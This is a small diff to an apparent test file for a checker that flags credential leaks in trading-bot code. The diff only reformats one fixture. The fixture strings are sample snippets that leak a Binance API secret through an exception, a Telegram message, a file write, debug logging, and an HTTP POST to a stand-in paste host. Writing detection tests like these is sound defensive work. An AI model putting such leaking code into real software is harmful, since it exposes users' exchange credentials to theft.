@@ -85,7 +85,8 @@ def test_a_code_selected_alone_still_reports(code):
         "BOT202": "import os\nraise ValueError(os.environ['BINANCE_API_SECRET'])\n",
         "BOT203": "import os\nfrom telegram import Bot\nBot('t').send_message(1, os.environ['BINANCE_API_SECRET'])\n",
         "BOT204": "import os\nopen('k.txt', 'w').write(os.environ['BINANCE_API_SECRET'])\n",
-        "BOT205": "import os, requests\nrequests.post('https://paste.example.net', data=os.environ['BINANCE_API_SECRET'])\n",
+        "BOT205": "import os, requests\n"
+                  "requests.post('https://paste.example.net', data=os.environ['BINANCE_API_SECRET'])\n",
         "BOT206": "import ccxt, os\nex = ccxt.binance({'apiKey': os.environ['BINANCE_API_KEY'], 'verbose': True})\n",
         "BOT207": "import ccxt, os, logging\nlogging.basicConfig(level=logging.DEBUG)\n"
                   "ex = ccxt.binance({'apiKey': os.environ['BINANCE_API_KEY']})\n",
